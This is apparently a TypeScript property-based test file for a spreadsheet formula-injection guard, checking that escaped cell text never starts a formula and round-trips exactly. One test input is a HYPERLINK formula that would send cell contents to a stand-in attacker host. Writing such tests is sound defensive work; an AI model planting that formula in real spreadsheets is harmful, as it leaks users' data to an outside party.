import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guarded, unguarded } from '../../../server/src/values/formula-guard.ts';

const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', '\r', '\n', '＝', 'a', '1') }),
);

describe('a cell', () => {
  it('is what it was once its guard is taken off', () => {
    fc.assert(
      fc.property(text, (value) => unguarded(guarded(value)) === value),
      { numRuns: 2000 },
    );
  });

  it('starts no formula, whatever the text is', () => {
    fc.assert(
      fc.property(text, (value) => !/^\s*[=+\-@＝＋－＠]/.test(guarded(value))),
      { numRuns: 2000 },
    );
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1)', `'=HYPERLINK("https://evil.example/?"&A1)`],
    ['+1 555 0123', "'+1 555 0123"],
    ['-5', "'-5"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    [' =1+1', "' =1+1"],
    ["'=1+1", "''=1+1"],
    ["O'Brien", "O'Brien"],
    ["'t Hooft", "'t Hooft"],
    ['a=b', 'a=b'],
    ['', ''],
  ])('holds %j as %j', (value, cell) => {
    expect(guarded(value)).toBe(cell);
    expect(unguarded(cell)).toBe(value);
  });
});
